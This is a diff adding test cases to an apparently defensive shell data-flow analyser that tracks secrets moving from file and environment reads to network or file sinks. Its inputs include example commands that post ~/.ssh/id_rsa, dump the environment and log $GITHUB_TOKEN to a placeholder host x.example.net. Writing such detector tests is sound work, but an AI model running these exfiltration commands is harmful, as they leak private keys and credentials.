@@ -80,6 +80,14 @@ CASES: list[tuple[str, set[FlowRow]]] = [
     ('curl -d "$(< ~/.ssh/id_rsa)" https://x.example.net',
      {("fs.read(~/.ssh/id_rsa)", 1, "net.connect(x.example.net)", 1, (), "")}),
     ('read -r -p "Name: " name\ncurl -s "https://api.example.com/users/$name"', set()),
+    # the script's functions: what a call passes is their $1 and "$@"
+    ('send() {\n  local body="$1"\n  curl -s -d "$body" https://x.example.net\n}\n'
+     'send "$(cat ~/.ssh/id_rsa)"',
+     {("fs.read(~/.ssh/id_rsa)", 5, "net.connect(x.example.net)", 3,
+       ((5, "passed to send"), (2, "assigned to body")), "")}),
+    ('log() { echo "$@" >> /tmp/run.log; }\nlog "token is $GITHUB_TOKEN"',
+     {("env.read(GITHUB_TOKEN)", 2, "fs.write(/tmp/run.log)", 1, ((2, "passed to log"),), "")}),
+    ('show() { echo "$1"; }\nshow "$(cat ~/.ssh/config)"\ncurl -s https://x.example.net', set()),
     # redirects: both halves of a file-mediated flow are stated
     ("printenv > /tmp/e.txt\ncurl -T /tmp/e.txt https://x.example.net",
      {("env.read(*)", 1, "fs.write(/tmp/e.txt)", 1, (), ""),
